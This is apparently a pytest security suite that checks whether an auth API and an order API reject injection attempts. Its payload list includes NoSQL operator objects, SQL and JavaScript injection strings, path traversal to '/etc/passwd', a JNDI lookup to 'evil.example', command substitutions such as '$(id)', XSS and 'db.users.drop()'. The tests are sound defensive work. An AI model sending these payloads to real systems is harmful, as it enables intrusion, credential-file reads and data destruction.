"""Over 200 injection payloads in the fields of both APIs are rejected or treated as plain text."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from werkzeug.test import TestResponse

from support.abuse import BothApis, assert_rejected
from support.auth_api import PASSWORD, basic
from support.order_api import order

OPERATORS = [
    *("$ne", "$eq", "$gt", "$gte", "$lt", "$lte", "$in", "$nin", "$exists", "$type", "$regex", "$where", "$expr"),
    *("$or", "$and", "$nor", "$not", "$all", "$elemMatch", "$size", "$mod", "$function", "$accumulator", "$set"),
    *("$unset", "$rename", "$lookup", "$merge", "$out", "$comment", "$jsonSchema", "$text", "$oid", "$date", "$binary"),
]
VALUES: list[Any] = [None, "", [None], {"$ne": None}, "this.password"]
STRUCTURES = [{operator: value} for operator in OPERATORS for value in VALUES]
TEXTS = [
    '{"$ne": null}',
    '{"$gt": ""}',
    "[$ne]",
    "$where",
    "$ne",
    "' || '1'=='1",
    "'; return true; var x='",
    "' OR 1=1 --",
    "admin'--",
    "true, $where: '1 == 1'",
    "1; sleep(1000)",
    "db.users.drop()",
    "alice\0",
    "alice\0' || 1",
    "alice%00",
    "alice\r\nX-Injected: 1",
    "alice.bob",
    "alice*",
    ".*",
    "^a",
    "../../etc/passwd",
    "..\\..\\windows",
    "%2e%2e%2f",
    "file:///etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "${7*7}",
    "<script>alert(1)</script>",
    "`id`",
    "$(id)",
    "|id",
    "\u202ealice",
    "\uff41\uff4c\uff49\uff43\uff45",
    "alice\u200b",
    "ALICE",
    " alice",
    "alice ",
]
ALL: list[Any] = [*STRUCTURES, *TEXTS]


class Watched(BothApis):
    """Both services, with an order of alice that mallory tries to read.

    A test fails if a lookup or a registration in a store is called with a JSON object or array.
    """

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        self.order_id = self.orders.place(user="alice").get_json()["orderid"]
        users, orders = self.auth.users, self.orders.store
        for store, name in ((users, "password_hash"), (users, "add"), (orders, "find"), (orders, "read_newest")):
            setattr(store, name, self._only_texts(getattr(store, name)))

    @staticmethod
    def _only_texts(method: Any) -> Any:
        def checked(*args: Any, **kwargs: Any) -> Any:
            for value in (*args[:2], *kwargs.values()):
                assert value is None or isinstance(value, str | int) or callable(value), value
            return method(*args, **kwargs)

        return checked

    def as_mallory(self, method: str, path: str, **sent: Any) -> TestResponse:
        return self.orders.client.open(path, method=method, headers=self.orders.bearer("mallory"), **sent)


@pytest.fixture(scope="module")
def both(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Watched]:
    both = Watched(tmp_path_factory.mktemp("both"))
    yield both
    assert set(both.auth.users.hashes) == {"alice"}
    assert {d["userid"] for d in both.orders.documents.values()} <= {"alice", "mallory"}


def test_at_least_200_injection_payloads_exist() -> None:
    assert len(ALL) >= 200


@pytest.mark.parametrize("field", ["username", "password"])
def test_operator_object_in_a_registration_returns_422(both: Watched, field: str) -> None:
    for payload in STRUCTURES:
        body = {"username": "bob", "password": PASSWORD} | {field: payload}
        assert_rejected(both.auth.client.post("/api/users", json=body), 422)


def test_injection_text_as_username_returns_422(both: Watched) -> None:
    for payload in TEXTS:
        if payload != "alice.bob":
            assert_rejected(both.auth.client.post("/api/users", json={"username": payload, "password": PASSWORD}), 422)


@pytest.mark.parametrize("field", ["userid", "cost", "currency", "orderitems", "item", "quantity", "price"])
def test_operator_object_in_an_order_returns_422(both: Watched, field: str) -> None:
    for payload in STRUCTURES:
        line: dict[str, Any] = {"item": "apple", "quantity": 1, "price": "12.50"}
        body = order(userid="mallory", orderitems=[line])
        (line if field in line else body)[field] = payload
        assert_rejected(both.as_mallory("POST", "/order", json=body), 422)


@pytest.mark.parametrize("field", ["userid", "cost", "currency", "quantity", "price"])
def test_injection_text_in_order_field_with_fixed_format_is_rejected(both: Watched, field: str) -> None:
    for payload in TEXTS:
        line: dict[str, Any] = {"item": "apple", "quantity": 1, "price": "12.50"}
        body = order(userid="mallory", orderitems=[line])
        (line if field in line else body)[field] = payload
        assert_rejected(both.as_mallory("POST", "/order", json=body), 403, 422)


def test_injection_text_is_stored_as_item_name_or_rejected(both: Watched) -> None:
    for payload in TEXTS:
        answer = both.as_mallory("POST", "/order", json=order(userid="mallory", orderitems=[payload]))
        if set(payload) & set("\0\r\n"):
            assert_rejected(answer, 422)
        else:
            assert answer.status_code == 200
            assert answer.get_json()["orderitems"][0]["item"] == payload.strip(" ")


@pytest.mark.parametrize("field", ["orderid", "userid"])
def test_operator_object_as_order_or_user_id_returns_422(both: Watched, field: str) -> None:
    for payload in STRUCTURES:
        assert_rejected(both.as_mallory("GET", "/orderdetails", json={field: payload}), 422)


@pytest.mark.parametrize("field", ["orderid", "userid"])
@pytest.mark.parametrize("place", ["query", "body"])
def test_injection_payload_as_order_or_user_id_finds_no_order(both: Watched, field: str, place: str) -> None:
    for payload in ALL:
        text = payload if isinstance(payload, str) else json.dumps(payload)
        if place == "query":
            answer = both.as_mallory("GET", f"/orderdetails?{field}={quote(text)}")
        else:
            answer = both.as_mallory("GET", "/orderdetails", json={field: text})
        assert_rejected(answer, 403, 404)


@pytest.mark.parametrize("field", ["userid", "orderid"])
def test_query_operator_in_a_parameter_name_returns_400(both: Watched, field: str) -> None:
    for operator in OPERATORS:
        for path in (f"{field}[{operator}]=", f"{field}=mallory&{field}[{operator}]=x", f"{operator}=1"):
            assert_rejected(both.as_mallory("GET", f"/orderdetails?{quote(path, safe='=&')}"), 400)


@pytest.mark.parametrize("field", ["cursor", "status", "limit"])
def test_injection_payload_as_list_parameter_returns_400(both: Watched, field: str) -> None:
    for payload in ALL:
        text = payload if isinstance(payload, str) else json.dumps(payload)
        assert_rejected(both.as_mallory("GET", f"/orderdetails?userid=mallory&{field}={quote(text)}"), 400)


def test_injection_payload_as_wait_parameter_returns_400(both: Watched) -> None:
    for payload in ALL:
        text = payload if isinstance(payload, str) else json.dumps(payload)
        assert_rejected(both.as_mallory("GET", f"/orderdetails?orderid={both.order_id}&wait={quote(text)}"), 400)


def test_injection_payload_as_idempotency_key_returns_no_foreign_order(both: Watched) -> None:
    for payload in ALL:
        text = payload if isinstance(payload, str) else json.dumps(payload)
        if not text.isascii() or set(text) & set("\r\n"):
            continue  # not a valid header value
        headers = both.orders.bearer("mallory") | {"Idempotency-Key": text}
        answer = both.orders.client.post("/order", json=order(userid="mallory"), headers=headers)
        if answer.status_code == 200:
            assert answer.get_json()["userid"] == "mallory"
        else:
            assert_rejected(answer, 400)


def test_injection_payload_as_credentials_never_logs_in(both: Watched) -> None:
    for number, payload in enumerate(ALL):
        text = payload if isinstance(payload, str) else json.dumps(payload)
        for name, password in ((text, text), ("alice", text), (text, PASSWORD)):
            address = {"X-Forwarded-For": f"10.0.{number // 100}.{number % 100}"}
            answer = both.auth.client.get("/api/token", headers=basic(name, password) | address)
            assert_rejected(answer, 401, 429)


@pytest.mark.parametrize("service", ["auth", "orders"])
def test_injection_text_as_path_returns_404(both: Watched, service: str) -> None:
    client = getattr(both, service).client
    for payload in TEXTS:
        for path in (f"/{quote(payload)}", f"/api/{quote(payload)}", f"/order/{quote(payload)}"):
            assert_rejected(client.get(path, headers=both.orders.bearer("mallory")), 404)
